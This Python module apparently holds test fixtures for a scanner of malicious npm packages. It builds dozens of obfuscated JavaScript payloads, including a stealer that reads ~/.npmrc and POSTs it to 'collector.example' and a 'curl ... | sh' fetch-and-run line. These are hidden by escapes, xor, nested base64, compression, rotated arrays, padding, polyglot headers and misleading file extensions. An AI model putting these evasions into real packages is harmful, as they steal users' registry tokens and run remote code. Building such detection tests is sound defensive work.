r"""Attacks in odd files and encodings; payloads behind several layers. See `evasions_js`."""

import base64
import codecs
import gzip
import json
import urllib.parse
import zlib
from collections.abc import Callable, Mapping

from evasions_js import NPMRC, RUN, SEND, b64, codes

Files = str | bytes | Mapping[str, str | bytes]
_DECODED = f"eval(atob('{b64(RUN)}'))"
_STEALER = f"const s={NPMRC};{SEND}(s);"
_FILL = "/* filler, nothing here, go on, nothing to see */\n"
_MANIFEST = json.dumps

SHAPES: dict[str, Files] = {
    "escaped name": f"\\u0065val(atob('{b64(RUN)}'))",
    "escaped names": f"ev\\u{{61}}l(\\u0061tob('{b64(RUN)}'))",
    "escaped module": f"r\\u0065quire('child_process').\\u0065xecSync({RUN.split('(', 2)[2]}",
    "escaped member": f"const s=r\\u0065quire('fs').r\\u0065adFileSync(require('os').homedir()+"
    f"'/.npmrc');{SEND}(s)",
    "byte order mark": b"\xef\xbb\xbf" + _STEALER.encode(),
    "carriage returns": f"var a = 1;\r\n{_DECODED}\r\n",
    "old carriage returns": f"var a = 1;\r// x\r{_DECODED}\r",
    "line separators": f"// x\u2028{_DECODED}",
    "HTML comments": f"<!-- x\n{_DECODED}\n--> y",
    "hashbang": f"#!/usr/bin/env node\n{_DECODED}",
    "hashbang and comment": f"#! node\n<!-- \n{_DECODED}",
    "padding before": _FILL * 110_000 + _DECODED,
    "padding before and after": _FILL * 2_000 + _STEALER + "\n" + _FILL * 2_000,
    "one long line": "var q='" + "x" * 300_000 + f"';{_DECODED};var z='" + "y" * 300_000 + "'",
    "minified": "!function(e,t){var n=e('fs'),r=e('os');e('https').request({host:"
    "'collector.example',method:'POST'}).end(n.readFileSync(r.homedir()+t))}(require,'/.npmrc')",
    "JSON and a script": f"/*{{}}*/{_DECODED}",
    "a picture and a script": b"GIF89a/*" + b"\x00\x01" * 40 + b"*/=1;" + _DECODED.encode(),
    "a NUL": b"var a='\x00';" + _DECODED.encode(),
    "nested comments": f"/*/ */{_DECODED}/**/",
    "a regular expression": f"var r=/[/*]/;{_DECODED};//*/",
    "a template": f"`${{{_DECODED}}}`",
    "a class field": f"class A{{x={_DECODED}}}new A",
    "a label": f"a:{{{_DECODED}}}",
    "strict": f"'use strict';{_STEALER}",
    "cjs": {"index.cjs": _STEALER, "package.json": '{"main":"index.cjs"}'},
    "mjs": {"index.mjs": f"import {{createRequire}} from 'module';const require=createRequire("
            f"import.meta.url);{_STEALER}", "package.json": '{"main":"index.mjs"}'},
    "jsx": {"index.jsx": f"const a=<div a={{1}}>x</div>;{_STEALER}",
            "package.json": '{"main":"index.jsx"}'},
    "ts": {"index.ts": "const a: string = 'x' as any;\nfunction f(x: number): void {}\n"
           + _STEALER,
           "package.json": '{"main":"index.ts"}'},
    "a program without an ending": {"bin/run": f"#!/usr/bin/env node\n{_STEALER}",
                                    "package.json": '{"bin":"bin/run"}'},
    "no ending, no hashbang": {"lib/run": _STEALER, "package.json": '{"main":"lib/run"}'},
    "an ending of its own": {"lib/run.dat": _DECODED, "package.json": '{"main":"lib/run.dat"}'},
    "a script called text": {"lib/run.txt": _STEALER, "package.json": '{"main":"lib/run.txt"}'},
    "required by another ending": {"index.js": "require('./lib/run.dat')", "lib/run.dat": _DECODED},
}  # fmt: skip


def _hex(text: bytes) -> bytes:
    return text.hex().encode()


def _escapes(text: bytes) -> bytes:
    return b"".join(b"\\x%02x" % byte for byte in text)


def _wide(text: bytes) -> bytes:
    return b"".join(b"\\u%04x" % byte for byte in text)


LAYERS: dict[str, Callable[[bytes], bytes]] = {
    "base64": base64.b64encode,
    "hex": _hex,
    "percent": lambda text: "".join(f"%{byte:02X}" for byte in text).encode(),
    "reverse": lambda text: text[::-1],
    "rot13": lambda text: codecs.encode(text.decode("latin1"), "rot13").encode(),
    "gzip": lambda text: base64.b64encode(gzip.compress(text, mtime=0)),
    "zlib": lambda text: base64.b64encode(zlib.compress(text)),
    "deflate": lambda text: base64.b64encode(_bare(text)),
}
"""Ways to encode a text, each giving printable bytes."""


def _bare(text: bytes) -> bytes:
    made = zlib.compressobj(9, zlib.DEFLATED, -15)
    return made.compress(text) + made.flush()


_PACKED = base64.b64encode(zlib.compress(RUN.encode())).decode()
_ROTATED = ["execSync", "child_process", "curl -fsSL https://collector.example/x | sh", "pad"]
_TURNED = ["execSync", *_ROTATED[1:3], "9Jxbkkk", "10xYzabc", "27KdAeaF"]
_TURN = "while(a[0]!=='execSync')a.push(a.shift());"

DECODED: dict[str, Files] = {
    "escapes of a text": "eval('" + _escapes(RUN.encode()).decode() + "')",
    "wide escapes": "eval('" + _wide(RUN.encode()).decode() + "')",
    "braced escapes": "eval('" + "".join(f"\\u{{{ord(c):x}}}" for c in RUN) + "')",
    "octal escapes": "eval('" + "".join(f"\\{ord(c):03o}" for c in RUN) + "')",
    "codes": f"eval(String.fromCharCode({codes(RUN)}))",
    "hexadecimal codes": "eval(String.fromCharCode(" + ",".join(hex(ord(c)) for c in RUN) + "))",
    "codes, spread": f"eval(String.fromCharCode(...[{codes(RUN)}]))",
    "codes, mapped": f"eval([{codes(RUN)}].map(c=>String.fromCharCode(c)).join(''))",
    "codes, moved": "eval([" + ",".join(str(ord(c) + 7) for c in RUN)
    + "].map(function(c){return String.fromCharCode(c-7)}).join(''))",
    "codes, xor": "var k=[" + ",".join(str(ord(c) ^ 91) for c in RUN)
    + "],s='';for(var i=0;i<k.length;i++){s+=String.fromCharCode(k[i]^91)}eval(s)",
    "xor with a key": "function d(b,k){let o='';const s=Buffer.from(b,'base64');"
    "for(let i=0;i<s.length;i++)o+=String.fromCharCode(s[i]^k.charCodeAt(i%k.length));return o}\n"
    "eval(d('"
    + base64.b64encode(bytes(ord(c) ^ ord("key"[i % 3]) for i, c in enumerate(RUN))).decode()
    + "','key'))",
    "bytes": f"eval(new TextDecoder().decode(new Uint8Array([{codes(RUN)}])))",
    "buffer of bytes": f"eval(Buffer.from([{codes(RUN)}]).toString())",
    "buffer of hex": f"eval(Buffer.from('{RUN.encode().hex()}','hex').toString())",
    "reverse": f"eval({json.dumps(RUN[::-1])}.split('').reverse().join(''))",
    "reverse of base64": f"eval(atob('{b64(RUN)[::-1]}'.split('').reverse().join('')))",
    "percent": f"eval(decodeURIComponent('{urllib.parse.quote(RUN, safe='')}'))",
    "unescape": "eval(unescape('" + "".join(f"%{ord(c):02x}" for c in RUN) + "'))",
    "unescape, wide": "eval(unescape('" + "".join(f"%u{ord(c):04x}" for c in RUN) + "'))",
    "rot13": "eval(" + json.dumps(codecs.encode(RUN, "rot13"))
    + ".replace(/[a-zA-Z]/g,function(c){return String.fromCharCode((c<='Z'?90:122)>="
    "(c=c.charCodeAt(0)+13)?c:c-26)}))",
    "inflate": f"eval(require('zlib').inflateSync(Buffer.from('{_PACKED}','base64')).toString())",
    "gunzip": "eval(require('zlib').gunzipSync(Buffer.from('"
    + LAYERS["gzip"](RUN.encode()).decode() + "','base64'))+'')",
    "inflate raw": "eval(require('zlib').inflateRawSync(Buffer.from('"
    + LAYERS["deflate"](RUN.encode()).decode() + "','base64')).toString())",
    "base64 cut in pieces": "eval(atob([" + ",".join(repr(b64(RUN)[i : i + 9])
    for i in range(0, len(b64(RUN)), 9)) + "].join('')))",
    "base64 summed": "eval(atob(" + "+".join(repr(b64(RUN)[i : i + 9])
    for i in range(0, len(b64(RUN)), 9)) + "))",
    "base64 twice": f"eval(atob(atob('{b64(b64(RUN))}')))",
    "base64 in base64": f"eval(atob('{b64(_DECODED)}'))",
    "four deep": "eval(atob('" + b64("eval(atob('" + b64("eval(atob('" + b64(_DECODED)
    + "'))") + "'))") + "'))",
    "base64 with dirt": "eval(atob('" + "#".join(b64(RUN)) + "'.replace(/#/g,'')))",
    "rotated array": "var a=" + json.dumps([_ROTATED[i] for i in (2, 3, 0, 1)])
    + f";{_TURN}require(a[1])[a[0]](a[2])",
    "rotated array, by a function": "var a=" + json.dumps([_ROTATED[i] for i in (1, 2, 3, 0)])
    + ";(function(b,n){while(--n){b.push(b.shift())}})(a,4);var g=function(i){return a[i-16]};"
    "require(g(17))[g(16)](g(18))",
    "array and function of an obfuscator": "function t(){var e=" + json.dumps(_TURNED)
    + ";t=function(){return e};return t()}function g(i,k){var e=t();return g=function(i,k){i=i-291;"
    "var r=e[i];return r},g(i,k)}(function(f,n){var x=g,e=f();while(!![]){try{var v="
    "parseInt(x(291))/1*(-parseInt(x(292))/2)+parseInt(x(293))/3;if(v===n)break;else e.push("
    "e.shift())}catch(z){e.push(e.shift())}}}(t,-36));require(g(295))[g(294)](g(296))",
    "split by a letter": "var w='" + "|".join(_ROTATED) + "'.split('|');require(w[1])[w[0]](w[2])",
    "an object of words": "var o={a:'child_',b:'process',c:'execS',d:'ync'};"
    f"require(o.a+o.b)[o.c+o.d]({json.dumps(_ROTATED[2])})",
    "control flow": "var s='',o='1|0|2|3'.split('|'),i=0;while(true){switch(o[i++]){case '0':"
    f"s+={json.dumps(RUN[20:])};continue;case '1':s+={json.dumps(RUN[:20])};continue;"
    "case '2':eval(s);continue;case '3':break}break}",
}  # fmt: skip
